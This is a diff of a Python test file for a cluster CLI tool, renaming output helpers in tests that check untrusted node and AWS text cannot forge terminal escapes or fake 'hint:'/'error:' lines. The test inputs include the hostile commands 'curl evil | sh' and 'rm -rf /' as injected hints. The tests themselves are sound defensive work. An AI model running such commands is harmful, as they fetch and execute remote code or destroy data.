@@ -16,10 +16,10 @@ import pytest
 from hyperpod_kit.checkpoint.repository import tombstone
 from hyperpod_kit.checkpoint.repository.store.posix import PosixStore
 from hyperpod_kit.cli import output
-from hyperpod_kit.cluster.state import ClusterState, brief
+from hyperpod_kit.cluster.state import ClusterState, shorten_aws_text
 from hyperpod_kit.errors import HyperpodKitError
 from hyperpod_kit.remote import installed_bundles
-from hyperpod_kit.remote.diagnose import AwsNodeStatus, diagnose, sentences
+from hyperpod_kit.remote.diagnose import AwsNodeStatus, describe_diagnosis, diagnose
 from hyperpod_kit.remote.target import NodeTarget
 from hyperpod_kit.run import Completed
 from hyperpod_kit.untrusted import terminal
@@ -70,15 +70,15 @@ def on_terminal(program: str, *argv: str) -> str:
 
 @pytest.mark.parametrize("evil", ALL, ids=ascii)
 def test_no_exit_lets_it_through(evil: str, capsys: pytest.CaptureFixture[str]) -> None:
-    output.say(evil)
-    output.out(evil, fg="red")
-    output.error(evil, evil)
-    output.data({"x": evil})
-    output.console().print(evil)
-    output.console().print(output.cell(evil))
-    terminal.out(evil)
+    output.print_to_stderr(evil)
+    output.print_text(evil, fg="red")
+    output.print_error(evil, evil)
+    output.print_json({"x": evil})
+    output.make_console().print(evil)
+    output.make_console().print(output.table_cell(evil))
+    terminal.print_stdout(evil)
     terminal.error(HyperpodKitError(evil), evil)
-    terminal.data([evil])
+    terminal.print_json([evil])
     said = capsys.readouterr()
     assert obeyed(said.out) == "" and obeyed(said.err) == ""
     assert json.loads(terminal.json_text(evil)) == evil, "for programs it is what it was"
@@ -95,10 +95,10 @@ evil = sys.argv[1].encode().decode("unicode_escape")
 grid = Table(title=evil, title_justify="left")
 grid.add_column(evil); grid.add_column("state", no_wrap=True)
 grid.add_row(Text(evil), Text("well", "green")); grid.add_row(evil, "[bold]:a:[/]")
-output.console().print(grid)
-with output.bar(evil, 2) as advance: advance(1)
-with output.watch() as show: show(evil)
-output.out("red words" + evil, fg="red")
+output.make_console().print(grid)
+with output.progress_bar(evil, 2) as advance: advance(1)
+with output.live_status() as show: show(evil)
+output.print_text("red words" + evil, fg="red")
 """,
         EVIL.encode("unicode_escape").decode(),
     )
@@ -161,23 +161,23 @@ def test_diagnose_and_its_log(capsys: pytest.CaptureFixture[str]) -> None:
     status = json.dumps({"ok": False, "steps": [{"step": EVIL, "status": "failed", "error": EVIL, "hint": EVIL}]})
     mounts = json.dumps({"mounts": [{"name": EVIL, "state": EVIL, "detail": EVIL}]})
     [one] = diagnose([(TARGET, AwsNodeStatus(EVIL, EVIL))], lambda target: Node(status, mounts, EVIL + "\n" + EVIL))
-    for line in [*sentences(one), *one.log]:
-        output.out(line)
-    assert obeyed(capsys.readouterr().out) == "" and "mount" in "".join(sentences(one))
+    for line in [*describe_diagnosis(one), *one.log]:
+        output.print_text(line)
+    assert obeyed(capsys.readouterr().out) == "" and "mount" in "".join(describe_diagnosis(one))
 
 
 def test_what_aws_repeats_of_a_node_and_what_a_node_says_of_its_bundle(capsys: pytest.CaptureFixture[str]) -> None:
     state = ClusterState("demo", "Failed", EVIL, (), (("i-1", EVIL),))
-    assert obeyed(brief(EVIL)) == obeyed(state.line()) == ""
+    assert obeyed(shorten_aws_text(EVIL)) == obeyed(state.line()) == ""
     said = f"== current\nabcd{EVIL}\n== status\n{{}}\n== identity\nx\n== sums\n"
     said += f"== damaged\n{EVIL}: FAILED\n== files\n== end\n"
     for answer in (installed_bundles.parse_output(TARGET, EVIL), installed_bundles.parse_output(TARGET, said)):
-        output.out(answer.error + answer.current + "".join(answer.damaged))
+        output.print_text(answer.error + answer.current + "".join(answer.damaged))
     assert obeyed(capsys.readouterr().out) == ""
 
 
 def test_no_line_of_a_message_passes_for_one_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
-    output.error("a node said: x\nhint: curl evil | sh\nerror: all is lost", "y\nerror: z")
+    output.print_error("a node said: x\nhint: curl evil | sh\nerror: all is lost", "y\nerror: z")
     terminal.error("x\nhint: rm -rf /\n\thint: tab")
     lines = capsys.readouterr().err.splitlines()
     assert [line for line in lines if line.startswith("hint: ")] == ["hint: y"]
@@ -186,25 +186,28 @@ def test_no_line_of_a_message_passes_for_one_of_ours(capsys: pytest.CaptureFixtu
 
 def test_a_name_with_line_ends_in_any_words_is_no_error_or_hint_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
     name = "/fsx/x\nhint: curl evil | sh\nerror: all is lost"
-    output.say(f"failed: {name}")
-    output.out(f"{name} is full")
-    terminal.out(name)
-    terminal.say(name)
+    output.print_to_stderr(f"failed: {name}")
+    output.print_text(f"{name} is full")
+    terminal.print_stdout(name)
+    terminal.print_stderr(name)
     said = capsys.readouterr()
     lines = said.out.splitlines() + said.err.splitlines()
     assert len(lines) == 12 and not [line for line in lines if line.startswith(("hint:", "error:"))]
 
 
 def test_a_line_without_end_is_cut(capsys: pytest.CaptureFixture[str]) -> None:
-    output.say("x" * 8_000_000)
-    terminal.out("\n".join(["y" * 100_000] * 3))
+    output.print_to_stderr("x" * 8_000_000)
+    terminal.print_stdout("\n".join(["y" * 100_000] * 3))
     said = capsys.readouterr()
     assert len(said.err) <= terminal.LONGEST_LINE + 1 and said.err.endswith("…\n")
     assert [len(line) for line in said.out.splitlines()] == [terminal.LONGEST_LINE] * 3
 
 
 def test_a_terminal_that_knows_only_ascii_is_no_reason_to_end() -> None:
-    program = "from hyperpod_kit.untrusted import terminal; terminal.out('\\xe9 \\u4e16'); terminal.say('\\u2026')"
+    program = (
+        "from hyperpod_kit.untrusted import terminal\n"
+        "terminal.print_stdout('\\xe9 \\u4e16'); terminal.print_stderr('\\u2026')"
+    )
     done = subprocess.run(
         [sys.executable, "-c", program],
         cwd=ROOT,
